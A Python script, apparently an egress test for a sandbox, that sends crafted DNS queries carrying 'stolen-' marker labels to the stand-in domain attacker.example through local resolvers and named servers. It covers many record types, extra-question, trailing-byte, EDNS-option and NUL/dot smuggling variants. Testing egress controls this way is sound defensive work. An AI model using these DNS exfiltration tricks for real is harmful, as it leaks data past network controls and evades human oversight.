# Questions that carry data out, to the resolver that is named inside and to the servers in the
# arguments. Each has a mark in it; whether one got out is seen where it would arrive.
TYPES = {"a": 1, "null": 10, "mx": 15, "txt": 16, "aaaa": 28, "srv": 33, "https": 65, "any": 255}
ROOM = b"\x00\x00\x29\x10\x00\x00\x00\x00\x00"


def configured():
    with open("/etc/resolv.conf") as file:
        return [line.split()[1] for line in file if line.startswith("nameserver ")]


def labels(*names):
    return b"".join(bytes([len(it)]) + it for it in names) + b"\0"


def question(name, kind=1, also=b"", count=1, more=0):
    head = struct.pack(">HHHHHH", os.getpid() & 0xffff, 0x0100, count, 0, 0, more)
    return head + name + struct.pack(">HH", kind, 1) + also


def attacker(mark):
    return labels(b"stolen-" + mark, b"attacker", b"example")


def questions():
    web = labels(b"web", b"example", b"test")
    for name, kind in TYPES.items():
        yield name, question(attacker(name.encode()), kind)
    second = attacker(b"second") + struct.pack(">HH", 1, 1)
    yield "second", question(web, also=second, count=2)
    yield "trailing", question(web, also=b"stolen-trailing")
    option = struct.pack(">HHH", 19, 65001, 15) + b"stolen-option!!"
    yield "option", question(web, also=ROOM + option, more=1)
    yield "nul", question(labels(b"web", b"example", b"test\0stolen-nul"))
    yield "dot", question(labels(b"web.example.test.stolen-dot"))
    yield "below", question(labels(b"stolen-below", b"web", b"example", b"test"))
    yield "case", question(labels(b"WEB", b"eXaMPLe", b"tEST"))


def by_datagram(server, packet):
    family = so.AF_INET6 if ":" in server else so.AF_INET
    with so.socket(family, so.SOCK_DGRAM) as one:
        one.settimeout(0.3)
        one.connect((server, 53))
        one.send(packet)
        return answered(lambda: one.recv(4096))


def by_stream(server, packet):
    with so.create_connection((server, 53), timeout=0.3) as one:
        one.sendall(struct.pack(">H", len(packet)) + packet)
        return answered(lambda: one.recv(4096))


def answered(receive):
    try:
        return None if receive() else "closed"
    except TimeoutError:
        return "silent"


def attacks():
    attempt("library", lambda: so.getaddrinfo("stolen-library.attacker.example", 443) and None)
    for server in [*configured(), *sys.argv[1:]]:
        for name, packet in questions():
            attempt("udp:%s:%s" % (server, name), lambda: by_datagram(server, packet))
            attempt("tcp:%s:%s" % (server, name), lambda: by_stream(server, packet))


around(attacks)
